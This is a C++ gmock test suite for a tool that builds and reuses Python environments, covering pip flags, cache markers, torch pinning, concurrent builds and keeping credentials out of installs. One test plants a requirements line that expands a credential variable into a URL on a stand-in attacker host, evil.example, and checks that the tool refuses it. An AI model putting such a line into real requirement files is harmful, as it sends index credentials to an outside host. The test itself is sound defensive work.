#include "environment/environment.h"

#include "base/files.h"
#include "base/text.h"
#include "environment/torch_pin.h"
#include "fake_machine.h"

#include <condition_variable>
#include <mutex>
#include <set>
#include <thread>

#include <gmock/gmock.h>

namespace mpsgate {
namespace {

using testing::Contains;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

class Environment : public testing::Test {
 protected:
  Environment() {
    request_.wanted = &wanted_;
    request_.checkout = folder_.path() / "checkout";
    request_.tree = "tree";
    request_.cache = folder_.path() / "cache";
    request_.logs = folder_.path() / "logs";
    request_.own = machine_.own();
    request_.fetch_worker = "/x/mpsgate-fetch";
    request_.seconds = 60;
    request_.say = [this](const std::string& line) { said_.push_back(line); };
    fs::create_directories(request_.checkout);
    wanted_.python = "3.11";
    machine_.on_download = [](int, const std::vector<std::string>&) {
      return FakeMachine::Answer{0, "", "", {"six-1.16.0-py3-none-any.whl"}};
    };
  }
  EnvironmentOutcome provide() { return provide_environment(machine_, request_); }
  void lab_has(const std::string& file, const std::string& text) {
    ASSERT_TRUE(write_file(request_.checkout / file, text));
  }
  static std::vector<std::string> ids(const EnvironmentOutcome& outcome) {
    std::vector<std::string> found;
    for (const auto& finding : outcome.findings)
      found.emplace_back(finding.row->id);
    return found;
  }

  TemporaryFolder folder_;
  FakeMachine machine_;
  Protocol::Environment wanted_;
  EnvironmentRequest request_;
  std::vector<std::string> said_;
};

TEST_F(Environment, WithNothingToInstallStartsNoPip) {
  const auto outcome = provide();
  ASSERT_TRUE(outcome.environment);
  EXPECT_THAT(outcome.findings, IsEmpty());
  EXPECT_EQ(machine_.requests.size(), 2u);  // the interpreter's question and venv
  EXPECT_THAT(machine_.with("pip"), IsEmpty());
  EXPECT_TRUE(fs::exists(outcome.environment->folder / "complete.json"));
  EXPECT_FALSE(fs::exists(outcome.environment->folder.string() + ".build"));
  EXPECT_THAT(said_, IsEmpty());
}

TEST_F(Environment, IsBuiltOnceAndUsedAgain) {
  wanted_.packages = {"six==1.16.0"};
  const auto first = provide();
  ASSERT_TRUE(first.environment);
  EXPECT_FALSE(first.environment->reused);
  ASSERT_EQ(first.environment->packages.size(), 1u);
  EXPECT_EQ(first.environment->packages[0].name, "six");
  EXPECT_EQ(first.environment->installer, "pip 23.2.1");
  EXPECT_EQ(first.environment->index, "https://index.example/simple");
  machine_.requests.clear();
  const auto second = provide();
  ASSERT_TRUE(second.environment);
  EXPECT_TRUE(second.environment->reused);
  EXPECT_EQ(machine_.requests.size(), 1u);  // the interpreter's question
  EXPECT_EQ(second.environment->key, first.environment->key);
  EXPECT_EQ(second.environment->installer, first.environment->installer);
  EXPECT_EQ(second.environment->packages.size(), 1u);
  EXPECT_EQ(environment_state(second.environment->folder), environment_state(first.environment->folder));
}

TEST_F(Environment, DownloadsWithSettingsAndInstallsWithout) {
  wanted_.packages = {"six==1.16.0"};
  request_.own["PIP_EXTRA_INDEX_URL"] = "https://me:secret@h/simple";
  request_.own["HTTPS_PROXY"] = "http://me:secret@proxy";
  const auto outcome = provide();
  ASSERT_TRUE(outcome.environment);
  const auto downloads = machine_.with("download");
  ASSERT_EQ(downloads.size(), 1u);
  EXPECT_EQ(downloads[0].environment.at("PIP_EXTRA_INDEX_URL"), "https://me:secret@h/simple");
  EXPECT_THAT(downloads[0].argv, Contains("--only-binary"));
  const auto installs = machine_.with("install");
  ASSERT_EQ(installs.size(), 1u);
  EXPECT_THAT(installs[0].argv, Contains("--no-index"));
  EXPECT_THAT(installs[0].argv, Contains("--no-deps"));
  for (const auto& [name, value] : installs[0].environment)
    EXPECT_THAT(value, Not(HasSubstr("secret"))) << name;
  EXPECT_THAT(dump_json(outcome.environment->to_json()), Not(HasSubstr("secret")));
}

TEST_F(Environment, AKilledBuildIsNeverUsed) {
  wanted_.packages = {"six==1.16.0"};
  const auto first = provide();
  ASSERT_TRUE(first.environment);
  const fs::path folder = first.environment->folder;
  // As a kill leaves it: all but the marker, and scratch space.
  ASSERT_TRUE(remove_tree(folder / "complete.json"));
  ASSERT_TRUE(write_file(folder / "half", "written"));
  ASSERT_TRUE(write_file(folder.string() + ".build/wheels/half.whl", "written"));
  EXPECT_EQ(environment_state(folder), "");
  const auto second = provide();
  ASSERT_TRUE(second.environment);
  EXPECT_FALSE(second.environment->reused);
  EXPECT_EQ(second.environment->folder, folder);
  EXPECT_FALSE(fs::exists(folder / "half"));
  EXPECT_FALSE(fs::exists(folder.string() + ".build"));
}

TEST_F(Environment, AMarkerThatIsBrokenOrAnothersIsNotTrusted) {
  for (const char* text : {"", "{", "[]", "{\"key\": \"another\"}"}) {
    const auto first = provide();
    ASSERT_TRUE(first.environment);
    ASSERT_TRUE(write_file(first.environment->folder / "complete.json", text));
    const auto second = provide();
    ASSERT_TRUE(second.environment) << text;
    EXPECT_FALSE(second.environment->reused) << text;
  }
}

TEST_F(Environment, WhatALabLeftInItIsNotTrusted) {
  const auto first = provide();
  ASSERT_TRUE(first.environment);
  ASSERT_TRUE(write_file(first.environment->folder / "lib/python3.11/site-packages/helper.py", "x = 1"));
  const auto second = provide();
  ASSERT_TRUE(second.environment);
  EXPECT_FALSE(second.environment->reused);
  EXPECT_NE(second.environment->folder, first.environment->folder) << "a run may still use the other one";
  EXPECT_FALSE(fs::exists(second.environment->folder / "lib/python3.11/site-packages/helper.py"));
  EXPECT_TRUE(provide().environment->reused);
}

TEST_F(Environment, FreshIsBuiltBesideTheOneInUse) {
  const auto first = provide();
  request_.fresh = true;
  const auto second = provide();
  ASSERT_TRUE(first.environment && second.environment);
  EXPECT_FALSE(second.environment->reused);
  EXPECT_NE(second.environment->folder, first.environment->folder);
  EXPECT_TRUE(fs::exists(first.environment->folder / "complete.json"));
  request_.fresh = false;
  const auto third = provide();
  ASSERT_TRUE(third.environment);
  EXPECT_TRUE(third.environment->reused);
  EXPECT_EQ(third.environment->folder, second.environment->folder);
}

TEST_F(Environment, OneThatNothingHasUsedForLongGoesWithTheNextFreshBuild) {
  const auto first = provide();
  ASSERT_TRUE(first.environment);
  fs::last_write_time(first.environment->folder / "complete.json",
                      fs::file_time_type::clock::now() - std::chrono::hours(24 * 8));
  request_.fresh = true;
  ASSERT_TRUE(provide().environment);
  EXPECT_FALSE(fs::exists(first.environment->folder));
}

TEST_F(Environment, TwoAtOnceBuildOnce) {
  wanted_.packages = {"six==1.16.0"};
  std::mutex mutex;
  std::condition_variable changed;
  bool building = false, waiting = false;
  machine_.on_download = [&](int, const std::vector<std::string>&) {
    std::unique_lock lock(mutex);
    building = true;
    changed.notify_all();
    changed.wait_for(lock, std::chrono::seconds(60), [&] { return waiting; });
    return FakeMachine::Answer{0, "", "", {"six-1.16.0-py3-none-any.whl"}};
  };
  EnvironmentOutcome first;
  std::thread builder([&] { first = provide(); });
  {
    std::unique_lock lock(mutex);
    changed.wait_for(lock, std::chrono::seconds(60), [&] { return building; });
  }
  // Another process on the same machine: it finds the same Python.
  class Other : public ProcessRunner {
   public:
    ProcessResult run(const ProcessRequest& asked) override {
      ProcessRequest request = asked;
      request.argv[0] = machine_.python();
      return machine_.run(request);
    }
    std::size_t started() const { return machine_.requests.size(); }

   private:
    FakeMachine machine_;
  } other;
  EnvironmentRequest request = request_;
  std::vector<std::string> said;
  request.say = [&](const std::string& line) {
    said.push_back(line);
    std::lock_guard lock(mutex);
    waiting = true;
    changed.notify_all();
  };
  const auto second = provide_environment(other, request);
  builder.join();
  ASSERT_TRUE(first.environment && second.environment);
  EXPECT_FALSE(first.environment->reused);
  EXPECT_TRUE(second.environment->reused);
  EXPECT_EQ(other.started(), 1u);
  EXPECT_THAT(said, Contains(HasSubstr("waiting: another mpsgate")));
}

TEST_F(Environment, AMissingPythonNamesTheCommandThatInstallsIt) {
  machine_.version = "3.12.1";
  const auto outcome = provide();
  EXPECT_FALSE(outcome.environment);
  ASSERT_THAT(ids(outcome), testing::ElementsAre("environment.python-missing"));
  EXPECT_THAT(outcome.findings[0].message, HasSubstr("Python 3.11"));
  EXPECT_THAT(outcome.findings[0].remedy, HasSubstr("3.11"));
}

TEST_F(Environment, APythonUnderRosettaIsNone) {
  machine_.platform = "macosx-11.0-x86_64";
  const auto outcome = provide();
  ASSERT_THAT(ids(outcome), testing::ElementsAre("environment.python-missing"));
  EXPECT_THAT(outcome.findings[0].message, HasSubstr("Rosetta"));
}

TEST_F(Environment, AMissingFileIsNamed) {
  wanted_.files = {"nowhere.txt"};
  const auto outcome = provide();
  ASSERT_THAT(ids(outcome), testing::ElementsAre("environment.file-missing"));
  EXPECT_THAT(outcome.findings[0].message, HasSubstr("nowhere.txt"));
}

TEST_F(Environment, AVariableOfTheMachineReachesNoRequirement) {
  lab_has("requirements.txt", "six\nspy @ https://evil.example/${PIP_EXTRA_INDEX_URL}/spy.whl\n");
  wanted_.files = {"requirements.txt"};
  const auto outcome = provide();
  ASSERT_THAT(ids(outcome), testing::ElementsAre("environment.file-refused"));
  EXPECT_EQ(outcome.findings[0].place.line, 2);
  EXPECT_THAT(machine_.with("download"), IsEmpty());
}

TEST_F(Environment, AFailureThatNothingExplainsNamesItsLog) {
  wanted_.packages = {"six==1.16.0"};
  machine_.on_install = [](const std::vector<std::string>&) {
    return FakeMachine::Answer{2, "", "strange words\n", {}};
  };
  const auto outcome = provide();
  ASSERT_THAT(ids(outcome), testing::ElementsAre("environment.failed"));
  EXPECT_THAT(outcome.findings[0].remedy, HasSubstr("logs/environment.install.err"));
  EXPECT_THAT(outcome.findings[0].evidence, Contains("strange words"));
}

TEST_F(Environment, TimeForTheBuildIsWhatWaitingLeft) {
  wanted_.packages = {"six==1.16.0"};
  request_.seconds = 50;
  ASSERT_TRUE(provide().environment);
  EXPECT_LE(machine_.with("download")[0].limits.wall_seconds, 50);
}

TEST_F(Environment, AnOpenTorchIsRefusedBeforeAnythingIsDownloaded) {
  lab_has("requirements.txt", "torch>=2.0\n");
  wanted_.files = {"requirements.txt"};
  EXPECT_THAT(ids(provide()), testing::ElementsAre("environment.torch-unpinned"));
  EXPECT_THAT(machine_.with("download"), IsEmpty());
}

TEST_F(Environment, TorchThatSomePackageBringsIsCaughtByTheStandIn) {
  wanted_.packages = {"timm"};
  machine_.on_download = [](int, const std::vector<std::string>& argv) {
    EXPECT_THAT(read_file(value_after(argv, "--constraint")).value_or(""), HasSubstr(kTorchStandIn));
    EXPECT_FALSE(list_files(value_after(argv, "--find-links")).empty());
    return FakeMachine::Answer{
        0,
        "",
        "",
        {"timm-1.0-py3-none-any.whl", std::string("torch-") + kTorchStandIn + "-py3-none-any.whl"}};
  };
  const auto outcome = provide();
  EXPECT_FALSE(outcome.environment);
  EXPECT_THAT(ids(outcome), testing::ElementsAre("environment.torch-unpinned"));
  EXPECT_THAT(machine_.with("install"), IsEmpty());
}

#ifndef __APPLE__
TEST_F(Environment, OnLinuxTorchIsTheCpuBuildAndTheSizeIsSaidFirst) {
  lab_has("requirements.txt", "torch==2.13.0\n");
  wanted_.files = {"requirements.txt"};
  machine_.on_download = [this](int, const std::vector<std::string>& argv) {
    EXPECT_THAT(said_, Contains(HasSubstr("torch==2.13.0+cpu (about 200 MB to download, 1 GB on disk)")));
    EXPECT_EQ(read_file(value_after(argv, "--requirement")).value_or(""), "torch==2.13.0+cpu\n");
    return FakeMachine::Answer{0, "", "", {"torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl"}};
  };
  const auto outcome = provide();
  ASSERT_TRUE(outcome.environment);
  EXPECT_THAT(ids(outcome), testing::ElementsAre("environment.rewritten"));
  ASSERT_EQ(outcome.environment->rewrites.size(), 1u);
  EXPECT_EQ(outcome.environment->rewrites[0].to, "torch==2.13.0+cpu");
  // Reports of later runs repeat it.
  EXPECT_THAT(ids(provide()), testing::ElementsAre("environment.rewritten"));
}

TEST_F(Environment, TheCpuIndexIsAskedOnlyWhereTheOwnOneLacksTheBuild) {
  wanted_.packages = {"torch==2.13.0"};
  machine_.pages["https://index.example/simple/torch/"] = {
      200, "<a href=x>torch-2.13.0-cp311-none-macosx_11_0_arm64.whl</a>", "text/html"};
  machine_.on_download = [](int time, const std::vector<std::string>& argv) {
    const bool with = !value_after(argv, "--extra-index-url").empty();
    EXPECT_EQ(with, time == 2);
    if (!with)
      return FakeMachine::Answer{1,
                                 "",
                                 "ERROR: Could not find a version that satisfies the requirement "
                                 "torch==2.13.0+cpu (from versions: 2.13.0)\nERROR: No matching distribution "
                                 "found for torch==2.13.0+cpu\n",
                                 {}};
    return FakeMachine::Answer{0, "", "", {"torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl"}};
  };
  EXPECT_TRUE(provide().environment);
  EXPECT_EQ(machine_.with("download").size(), 2u);
}

TEST_F(Environment, OnLinuxWhatAMacLacksIsPredictedAndRemembered) {
  wanted_.packages = {"native==1.0"};
  machine_.pages["https://index.example/simple/native/"] = {
      200, "<a href=x>native-1.0-cp311-cp311-manylinux_2_28_x86_64.whl</a>", "text/html"};
  machine_.on_download = [](int, const std::vector<std::string>&) {
    return FakeMachine::Answer{0, "", "", {"native-1.0-cp311-cp311-manylinux_2_28_x86_64.whl"}};
  };
  const auto first = provide();
  ASSERT_TRUE(first.environment);
  EXPECT_THAT(ids(first), testing::ElementsAre("environment.unbuildable"));
  const auto second = provide();
  ASSERT_TRUE(second.environment);
  EXPECT_TRUE(second.environment->reused);
  EXPECT_THAT(ids(second), testing::ElementsAre("environment.unbuildable"));
  EXPECT_EQ(second.findings[0].message, first.findings[0].message);
}
#endif

TEST_F(Environment, AnotherTorchThanThePinnedIsRefused) {
  wanted_.packages = {"torch==2.13.0"};
  machine_.on_download = [](int, const std::vector<std::string>&) {
    return FakeMachine::Answer{0, "", "", {"torch-2.14.0-cp311-cp311-manylinux_2_28_x86_64.whl"}};
  };
  const auto outcome = provide();
  EXPECT_FALSE(outcome.environment);
  EXPECT_THAT(ids(outcome), Contains("environment.torch-replaced"));
}

TEST_F(Environment, SourceArchivesAreTakenOnlyOfPackagesWithoutAWheel) {
  wanted_.packages = {"docopt==0.6.2", "six==1.16.0"};
  machine_.on_download = [](int time, const std::vector<std::string>& argv) {
    if (time == 1)
      return FakeMachine::Answer{1,
                                 "",
                                 "ERROR: Could not find a version that satisfies the requirement "
                                 "docopt==0.6.2 (from versions: none)\n",
                                 {}};
    if (time == 2) {
      EXPECT_EQ(value_after(argv, "--only-binary"), ":all:");
      EXPECT_EQ(value_after(argv, "--no-binary"), "docopt");
      return FakeMachine::Answer{0, "", "", {"docopt-0.6.2.tar.gz", "six-1.16.0-py3-none-any.whl"}};
    }
    EXPECT_THAT(argv, Contains("setuptools"));
    EXPECT_THAT(value_after(argv, "--dest"), HasSubstr("build-wheels"));
    return FakeMachine::Answer{0, "", "", {"setuptools-70-py3-none-any.whl"}};
  };
  ASSERT_TRUE(provide().environment);
  ASSERT_EQ(machine_.with("install").size(), 1u);
  EXPECT_THAT(machine_.with("install")[0].argv, Contains(HasSubstr("wheels/docopt-0.6.2.tar.gz")));
}

TEST_F(Environment, WhatOnlyABuildAsksForIsBroughtAndTheBuildTriedAgain) {
  wanted_.packages = {"six==1.16.0"};
  machine_.on_install = [time = 0](const std::vector<std::string>&) mutable {
    if (time++ > 0) return FakeMachine::Answer{};
    const auto text = read_file(fs::path(MPSGATE_SOURCE_DIR) / "fixtures/pip/build-requirement.pip-23.2.txt");
    return FakeMachine::Answer{1, text.value_or(""), "", {}};
  };
  ASSERT_TRUE(provide().environment);
  EXPECT_EQ(machine_.with("install").size(), 2u);
  EXPECT_EQ(machine_.with("cmake>=3.15").size(), 1u);
}

TEST_F(Environment, TheLabsOwnPackageIsBuiltOfflineBeforeItsNeedsAreDownloaded) {
  lab_has("pyproject.toml", "[project]\nname='own'\nversion='1.0'\n");
  wanted_.install = ".";
  wanted_.drop["flash-attn"] = "training only";
  request_.own["PIP_INDEX_URL"] = "https://me:secret@h/simple";
  machine_.own_metadata = "six>=1.10\nflash_attn\n";
  machine_.on_download = [](int time, const std::vector<std::string>& argv) {
    if (time == 1) return FakeMachine::Answer{};
    EXPECT_EQ(read_file(value_after(argv, "--requirement")).value_or(""), "six>=1.10\n");
    return FakeMachine::Answer{0, "", "", {"six-1.16.0-py3-none-any.whl"}};
  };
  const auto outcome = provide();
  ASSERT_TRUE(outcome.environment) << ids(outcome).size();
  const auto builds = machine_.with("--wheel-dir");
  ASSERT_EQ(builds.size(), 1u);
  EXPECT_FALSE(builds[0].environment.contains("PIP_INDEX_URL"));
  EXPECT_THAT(machine_.with("install")[0].argv, Contains(HasSubstr("own-1.0-py3-none-any.whl")));
  EXPECT_TRUE(fs::exists(request_.checkout / "pyproject.toml"));
  ASSERT_EQ(outcome.environment->rewrites.size(), 1u);
  EXPECT_EQ(outcome.environment->rewrites[0].from, "flash_attn");
}

TEST_F(Environment, AFolderThatTheCommitLacksIsNamed) {
  wanted_.install = "nowhere";
  EXPECT_THAT(ids(provide()), testing::ElementsAre("environment.file-missing"));
  wanted_.install = "../..";
  EXPECT_THAT(ids(provide()), testing::ElementsAre("environment.file-missing"));
}

TEST_F(Environment, APythonWithoutPipGetsAPrivateOneOnce) {
  machine_.pip = "";
  wanted_.packages = {"six==1.16.0"};
  const auto first = provide();
  ASSERT_TRUE(first.environment);
  EXPECT_EQ(first.environment->installer, "pip 23.0.1");
  EXPECT_THAT(said_, Contains(HasSubstr("preparing pip")));
  said_.clear();
  wanted_.packages = {"idna==3.4"};
  ASSERT_TRUE(provide().environment);
  EXPECT_THAT(said_, Not(Contains(HasSubstr("preparing pip"))));
}

TEST_F(Environment, AFailureLeavesNothingThatCouldBeUsed) {
  wanted_.packages = {"six==99.0"};
  machine_.pages["https://index.example/simple/six/"] = {200, "<a href=x>six-1.0.tar.gz</a>", "text/html"};
  machine_.on_download = [](int, const std::vector<std::string>&) {
    const auto text = read_file(fs::path(MPSGATE_SOURCE_DIR) / "fixtures/pip/no-such-version.pip-26.3.txt");
    return FakeMachine::Answer{1, "", text.value_or(""), {}};
  };
  const auto outcome = provide();
  EXPECT_FALSE(outcome.environment);
  EXPECT_THAT(ids(outcome), testing::ElementsAre("environment.unbuildable"));
  std::size_t left = 0;
  for (const auto& entry : fs::directory_iterator(request_.cache / "environments"))
    left += entry.path().extension() != ".lock";
  EXPECT_EQ(left, 0u);
  // What failed once is asked again: indexes change.
  const auto before = machine_.with("download").size();
  (void)provide();
  EXPECT_GT(machine_.with("download").size(), before);
}

TEST(EnvironmentTables, AreSoundAndHaveAPageEach) {
  Registry registry;
  registry.add(environment_findings());
  registry.add(environment_criteria());
  EXPECT_THAT(registry.problems(), IsEmpty());
  for (const auto& row : environment_findings()) {
    const auto page =
        read_file(fs::path(MPSGATE_SOURCE_DIR) / "docs/diagnostics" / (std::string(row.id) + ".md"));
    ASSERT_TRUE(page) << row.id;
    EXPECT_THAT(*page, testing::StartsWith("# " + std::string(row.id) + ": ")) << row.id;
  }
  for (const auto& row : environment_criteria())
    EXPECT_NE(registry.finding(row.id), nullptr) << row.id;
}

TEST(EnvironmentState, OfNothingIsEmpty) {
  EXPECT_EQ(environment_state("/nowhere"), "");
}

}  // namespace
}  // namespace mpsgate
